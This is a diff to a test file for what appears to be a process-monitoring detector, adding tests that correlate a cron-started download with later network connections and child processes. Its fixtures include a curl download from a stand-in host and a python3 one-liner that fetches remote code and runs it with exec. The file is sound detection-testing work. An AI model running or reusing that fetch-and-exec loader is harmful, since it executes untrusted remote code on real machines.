@@ -168,3 +168,31 @@ def test_a_page_that_a_web_server_compiles_much_later_has_run(tmp_path: Path) ->
         tmp_path,
     )
     assert [one.stages["run"].state for one in found] == ["seen"]
+
+
+def test_what_a_process_does_for_its_transfer_minutes_later_is_looked_at(tmp_path: Path) -> None:
+    connection = {"kind": EventKind.CONNECTION, "dst_ip": "192.0.2.7", "dst_port": 80, "initiated": True}
+    found = _told_of(
+        [
+            (0, _start(610, 1, "cron", None)),
+            (1, {**FETCH, "argv": ("curl", "-o", "/tmp/a", "http://192.0.2.7/a")}),
+            (500, DULL_FILE),
+            (600, {**connection, "pid": 611, "process_path": "/usr/bin/curl"}),
+        ],
+        tmp_path,
+    )
+    assert [one.stages["connected"].state for one in found] == ["seen"]
+
+
+def test_what_a_loader_starts_minutes_later_is_looked_at(tmp_path: Path) -> None:
+    code = "import urllib.request as u; exec(u.urlopen('http://192.0.2.7/a').read())"
+    found = _told_of(
+        [
+            (0, _start(610, 1, "cron", None)),
+            (1, {**FETCH, "process_path": "/usr/bin/python3", "argv": ("python3", "-c", code)}),
+            (500, DULL_FILE),
+            (600, _start(612, 611, "grep", None)),
+        ],
+        tmp_path,
+    )
+    assert [row.record for one in found for row in one.evidence] == ["1", "3"]
